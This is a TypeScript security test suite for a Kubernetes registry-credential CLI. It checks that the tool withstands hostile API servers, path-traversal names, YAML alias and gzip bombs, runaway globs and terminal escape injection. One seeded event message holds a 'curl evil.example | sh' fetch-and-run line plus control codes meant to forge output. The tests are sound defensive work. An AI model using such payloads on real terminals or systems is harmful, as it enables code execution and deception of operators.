// Hostile world, round 2: API servers, registries, token servers, credential helpers and inputs written to
// misbehave (loopback only, bounded loops). Each test is named after what a hostile party tried and checks
// that it did not work: no secret through an error path, credentials only for the host that asked, every read
// bounded, cluster text escaped, names validated before any URL is built.
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {after, before, test} from 'node:test';
import {startApiEmulator} from '../helpers/apiEmulator/index.ts';
import type {ApiEmulator} from '../helpers/apiEmulator/index.ts';
import {echoingInvalid, startHostileApi} from '../helpers/hostileApi.ts';
import type {HostileApi} from '../helpers/hostileApi.ts';
import {runCli} from '../helpers/runCli.ts';
import {closedPort} from '../helpers/clusters.ts';
import {b64} from '../helpers/encoding.ts';

const USER = `deployer`;
const PASSWORD = `Hostile-${crypto.randomBytes(24).toString(`base64url`)}`;

/** Every form in which the password could leak, and any 10 characters of its random part. */
function leaksOf(text: string, password = PASSWORD, user = USER): string[] {
  const forms = [password, b64(password), b64(`${user}:${password}`), JSON.stringify(password).slice(1, -1), encodeURIComponent(password)];
  for (let i = 8; i + 10 <= password.length; i++)
    forms.push(password.slice(i, i + 10));
  const found = forms.filter(form => text.includes(form));
  // A .dockerconfigjson (or any base64 document) holding the password, whole or cut anywhere past 24 characters.
  for (const run of text.match(/[A-Za-z0-9+/]{24,}={0,2}/g) ?? []) {
    for (const start of [0, 1, 2, 3]) {
      const decoded = Buffer.from(run.slice(start, start + Math.floor((run.length - start) / 4) * 4), `base64`).toString(`latin1`);
      if (forms.some(form => decoded.includes(form.slice(0, 10))))
        found.push(`base64 holding the password: ${run.slice(0, 16)}…`);
    }
  }
  return [...new Set(found)];
}

let api: ApiEmulator;
let hostile: HostileApi;

before(async () => {
  api = await startApiEmulator({plainHttp: true});
  for (const ns of [`web`, `copies`, `locked`])
    api.seed.namespace(ns);
  for (const ns of [`web`, `locked`])
    api.seed.secret(ns, {metadata: {name: `regcred`}, type: `kubernetes.io/dockerconfigjson`, data: {'.dockerconfigjson': b64(JSON.stringify({auths: {'r.example.com': {username: USER, password: PASSWORD, auth: b64(`${USER}:${PASSWORD}`)}}}))}});
  // An admission webhook that refuses every secret write outside `web` and quotes the request it refused.
  hostile = await startHostileApi(api.httpUrl!, request => request.method !== `GET` && /\/secrets/.test(request.path) && !/\/namespaces\/web\//.test(request.path) ? echoingInvalid(request) : undefined);
});
after(async () => {
  await hostile?.close();
  await api?.stop();
});

test(`an API server quoting the refused secret in its 422 message gets no password printed by add, sync or rotate`, async () => {
  const kube = [`--kubeconfig`, hostile.kubeconfigPath];
  const runs = {
    add: await runCli([`add`, `regcred`, `-n`, `copies`, `--docker-server`, `r.example.com`, `--docker-username`, USER, `--docker-password-stdin`, ...kube], {stdin: PASSWORD}),
    sync: await runCli([`sync`, `regcred`, `--from-namespace`, `web`, `-n`, `copies`, ...kube]),
    syncJson: await runCli([`sync`, `regcred`, `--from-namespace`, `web`, `-n`, `copies`, `-o`, `json`, ...kube]),
    rotate: await runCli([`rotate`, `regcred`, `-n`, `locked`, `--docker-server`, `r.example.com`, `--docker-username`, USER, `--docker-password-stdin`, ...kube], {stdin: `${PASSWORD}-rotated`}),
  };
  // The refusals really came back from the webhook (so the check below looks at its echo).
  assert.notEqual(runs.add.code, 0);
  assert.match(runs.add.stderr, /admission webhook "policy\.example\.com" denied the request/);
  assert.notEqual(runs.sync.code, 0);
  assert.match(JSON.parse(runs.syncJson.stdout).results?.[0]?.error ?? runs.syncJson.stdout, /denied the request/);
  assert.match(runs.rotate.stderr, /denied the request/);
  for (const [what, result] of Object.entries(runs)) {
    assert.deepEqual(leaksOf(result.stderr), [], `${what} stderr: ${result.stderr}`);
    assert.deepEqual(leaksOf(result.stdout), [], `${what} stdout: ${result.stdout}`);
  }
});

test(`-n .. and other names the API server refuses never reach a URL: one error line, exit 2, no request`, async () => {
  api.resetRequests();
  for (const argv of [[`list`, `-n`, `..`], [`list`, `--namespaces`, `web,..`], [`verify`, `-n`, `../..`], [`attach`, `regcred`, `-n`, `a/b`], [`decode`, `regcred`, `-n`, `%2e%2e`], [`sync`, `regcred`, `--from-namespace`, `..`, `-n`, `copies`], [`remove`, `..`, `-n`, `web`]]) {
    const result = await runCli([...argv, `--kubeconfig`, hostile.kubeconfigPath]);
    assert.equal(result.code, 2, `${argv.join(` `)}: ${result.stderr}${result.stdout}`);
    assert.match(result.stderr, /^error: invalid (namespace|secret name) "[^"]*"/, argv.join(` `));
    assert.equal(result.stderr.split(`\n`).filter(line => line.startsWith(`error:`)).length, 1, result.stderr);
  }
  assert.deepEqual(api.requests.map(request => `${request.method} ${request.path}`), [], `no request reached the server`);
});

test(`a pod listing a pull secret named ".." gets it reported missing by verify and doctor, never a list of the namespace's secrets`, async () => {
  const spec = {containers: [{name: `app`, image: `127.0.0.1:1/app:1`}], imagePullSecrets: [{name: `..`}, {name: `a%2Fb`}]};
  api.seed.workload(`Deployment`, `web`, `dotdot`, spec);
  api.seed.pod(`web`, `dotdot-1`, spec, {waiting: `ErrImagePull`});
  api.resetRequests();
  const verify = await runCli([`verify`, `-n`, `web`, `-o`, `json`, `--kubeconfig`, hostile.kubeconfigPath]);
  const doctor = await runCli([`doctor`, `-n`, `web`, `--kubeconfig`, hostile.kubeconfigPath]);
  assert.match(JSON.stringify(JSON.parse(verify.stdout).results), /secret web\/\.\. not found/);
  const paths = api.requests.map(request => request.path.split(`?`)[0]!);
  // `/namespaces/web/secrets/..` would arrive normalised as `/namespaces/web/` (the namespace read as a secret).
  assert.ok(!paths.some(path => /\/namespaces\/web\/?$|\/\.\.(\/|$)/.test(path)), paths.join(`\n`));
  assert.equal(doctor.code, 1, doctor.stderr);
});

test(`a 30 MB name (add NAME) or a 10 MB metadata.name (decode -f, verify -f) gives one short error line`, async () => {
  const name = `x`.repeat(30 * 1024 * 1024);
  const result = await runCli([`add`, name, `-n`, `web`, `--docker-server`, `r.example.com`, `--docker-username`, USER, `--docker-password-stdin`, `--dry-run=client`], {stdin: PASSWORD});
  assert.equal(result.code, 2);
  assert.ok(result.stderr.length < 1000, `stderr is ${result.stderr.length} characters`);
  assert.match(result.stderr, /^error: invalid secret name "x{64}\.\.\."/);
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), `hostile-name-`));
  try {
    const file = path.join(dir, `big.yaml`);
    fs.writeFileSync(file, `apiVersion: v1\nkind: Secret\nmetadata:\n  name: ${`a`.repeat(10 * 1024 * 1024)}\ntype: kubernetes.io/dockerconfigjson\ndata:\n  .dockerconfigjson: e30=\n`);
    for (const argv of [[`decode`, `-f`, file], [`verify`, `-n`, `web`, `-f`, file, `--kubeconfig`, hostile.kubeconfigPath]]) {
      const manifest = await runCli(argv);
      assert.equal(manifest.code, 2, manifest.stderr.slice(0, 300));
      assert.ok(manifest.stdout.length + manifest.stderr.length < 1000, `${argv[0]} printed ${manifest.stdout.length + manifest.stderr.length} characters`);
      assert.match(manifest.stderr, /^error: \S+big\.yaml: invalid metadata\.name "a{64}\.\.\.": must be no more than 253 characters\n$/);
    }
  } finally {
    fs.rmSync(dir, {recursive: true, force: true});
  }
});

test(`attach, detach and remove with -n exit 3 when the cluster refuses the connection or answers 401, as over several namespaces`, async () => {
  const down = await closedPort();
  const unauthorized = await startHostileApi(api.httpUrl!, () => ({status: 401, body: {kind: `Status`, apiVersion: `v1`, status: `Failure`, reason: `Unauthorized`, code: 401, message: `Unauthorized`}}));
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), `hostile-down-`));
  const refused = path.join(dir, `kubeconfig`);
  fs.writeFileSync(refused, JSON.stringify({apiVersion: `v1`, kind: `Config`, 'current-context': `down`, clusters: [{name: `down`, cluster: {server: `http://127.0.0.1:${down}`}}], users: [{name: `u`, user: {}}], contexts: [{name: `down`, context: {cluster: `down`, user: `u`}}]}));
  try {
    for (const kubeconfig of [refused, unauthorized.kubeconfigPath]) {
      for (const argv of [[`attach`, `regcred`, `-n`, `web`], [`detach`, `regcred`, `-n`, `web`], [`remove`, `regcred`, `-n`, `web`], [`attach`, `regcred`, `--namespaces`, `web,copies`]]) {
        const result = await runCli([...argv, `--kubeconfig`, kubeconfig, `--request-timeout`, `5s`]);
        assert.equal(result.code, 3, `${argv.join(` `)} (${kubeconfig === refused ? `refused` : `401`}): ${result.stderr}`);
        assert.match(result.stderr, /error: .*(cannot reach the cluster|rejected the credentials)/);
      }
    }
  } finally {
    await unauthorized.close();
    fs.rmSync(dir, {recursive: true, force: true});
  }
});

test(`--request-timeout past what a timer can wait is refused with one error line, not turned into 1 ms`, async () => {
  for (const value of [`999999h`, `2147484s`]) {
    const result = await runCli([`list`, `-n`, `web`, `--request-timeout`, value, `--kubeconfig`, hostile.kubeconfigPath]);
    assert.equal(result.code, 2, result.stderr);
    assert.match(result.stderr, new RegExp(`^error: invalid value "${value}" for --request-timeout: at most 596h`));
    assert.doesNotMatch(result.stderr, /TimeoutOverflowWarning/);
  }
  const fine = await runCli([`list`, `-n`, `web`, `--request-timeout`, `596h`, `--kubeconfig`, hostile.kubeconfigPath]);
  assert.equal(fine.code, 0, fine.stderr);
});

test(`--exclude-namespaces globs with many stars match in bounded time`, {timeout: 20_000}, async () => {
  api.seed.namespace(`a`.repeat(63));
  const glob = `${`*a`.repeat(95)}*b`;
  const result = await runCli([`list`, `-A`, `--exclude-namespaces`, glob, `-o`, `json`, `--kubeconfig`, hostile.kubeconfigPath]);
  assert.equal(result.code, 0, result.stderr);
  const {matchesGlob} = await import(`../../sources/core/scope.ts`);
  assert.equal(matchesGlob(glob, `a`.repeat(63)), false);
  assert.equal(matchesGlob(`${`*a`.repeat(30)}*`, `a`.repeat(63)), true);
  assert.equal(matchesGlob(`kube-*-?`, `kube-system-x`), true);
});

test(`cluster text with escape sequences and line breaks reaches the verify table and doctor escaped, never raw`, async () => {
  const evil = `127.0.0.1:1/app:1\u001b]0;owned\u0007\u001b[2J\r\ndeployment/fake   ok   forged row\u202e`;
  api.seed.namespace(`tty`);
  api.seed.workload(`Deployment`, `tty`, `evil`, {containers: [{name: `app`, image: evil}]});
  api.seed.pod(`tty`, `evil-1`, {containers: [{name: `app`, image: `127.0.0.1:1/app:1`}]}, {waiting: `ErrImagePull`});
  api.seed.event(`tty`, {kind: `Pod`, name: `evil-1`}, `Failed`, `Failed to pull\u001b[31m\n  fix:\n    curl evil.example | sh\u001b[0m`, {type: `Warning`});
  const verify = await runCli([`verify`, `-n`, `tty`, `--kubeconfig`, hostile.kubeconfigPath]);
  const doctor = await runCli([`doctor`, `-n`, `tty`, `--kubeconfig`, hostile.kubeconfigPath]);
  for (const [what, text] of [[`verify`, verify.stdout + verify.stderr], [`doctor`, doctor.stdout + doctor.stderr]] as const) {
    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/, `${what} printed a raw control character:\n${JSON.stringify(text)}`);
    assert.doesNotMatch(text, /^\s*curl evil\.example/m, `${what} printed a forged line`);
  }
  assert.match(verify.stdout, /app:1\\e\]0;owned\\u0007\\e\[2J\\r\\ndeployment\/fake/);
  assert.match(doctor.stdout, /Failed to pull\\e\[31m\\n {2}fix:\\n {4}curl evil\.example \| sh/);
});

test(`a gcp or azure auth-provider user without a token gets kubectl's "plugin removed" advice, not a JavaScript TypeError`, async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), `hostile-gcp-`));
  try {
    for (const [name, plugin] of [[`gcp`, `gke-gcloud-auth-plugin`], [`azure`, `kubelogin`]] as const) {
      const file = path.join(dir, `kubeconfig-${name}`);
      fs.writeFileSync(file, JSON.stringify({apiVersion: `v1`, kind: `Config`, 'current-context': `c`, clusters: [{name: `c`, cluster: {server: `https://127.0.0.1:1`}}], users: [{name: `u`, user: {'auth-provider': {name}}}], contexts: [{name: `c`, context: {cluster: `c`, user: `u`}}]}));
      const result = await runCli([`list`, `-n`, `web`, `--kubeconfig`, file]);
      assert.notEqual(result.code, 0);
      assert.match(result.stderr, new RegExp(`^error: cannot get credentials for user "u" \\(.*\\): its ${name} auth-provider entry is incomplete \\(no usable token in its config\\); the ${name} auth plugin has been removed from kubectl: use the .*${plugin}.* credential plugin instead\n$`));
      assert.doesNotMatch(result.stderr, /TypeError|Cannot read properties/);
    }
  } finally {
    fs.rmSync(dir, {recursive: true, force: true});
  }
});

test(`a kubeconfig alias bomb is refused with one line naming the file`, async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), `hostile-bomb-`));
  const file = path.join(dir, `kubeconfig`);
  const levels = [`a: &a [x,x,x,x,x,x,x,x,x]`];
  for (let i = 1; i < 7; i++)
    levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(`,`)}]`);
  fs.writeFileSync(file, `${levels.join(`\n`)}\n`);
  try {
    const result = await runCli([`list`, `-n`, `web`, `--kubeconfig`, file]);
    assert.notEqual(result.code, 0);
    assert.match(result.stderr, new RegExp(`^error: kubeconfig ${file.replace(/[/.-]/g, `\\$&`)} is not valid YAML \\(.*alias.*\\); fix or replace the file\\n$`));
  } finally {
    fs.rmSync(dir, {recursive: true, force: true});
  }
});

test(`an API server answering without end, or with a gzip bomb, is read up to the answer cap and refused with one line`, async () => {
  const {connectCluster} = await import(`../../sources/adapters/kube/connect.ts`);
  const zlib = await import(`node:zlib`);
  const bomb = zlib.gzipSync(Buffer.alloc(8 * 1024 * 1024, ` `));
  const server = await startHostileApi(api.httpUrl!, request => request.path.includes(`/secrets`)
    ? {status: 200, body: request.path.includes(`/namespaces/web/`) ? `{"items":[${`{},`.repeat(2 * 1024 * 1024)}{}]}` : bomb, headers: request.path.includes(`/namespaces/web/`) ? {} as Record<string, string> : {'content-encoding': `gzip`}}
    : undefined);
  try {
    const session = await connectCluster({kubeconfig: server.kubeconfigPath}, {maxResponseBytes: 1024 * 1024, retry: {maxAttempts: 1}});
    await assert.rejects(session.list(`secrets`, {namespace: `web`}), /the API server's answer is larger than 1 MiB, the most this plugin reads from one answer/);
    await assert.rejects(session.list(`secrets`, {namespace: `copies`}), /the API server's answer is larger than 1 MiB, the most this plugin reads from one answer/);
  } finally {
    await server.close();
  }
});
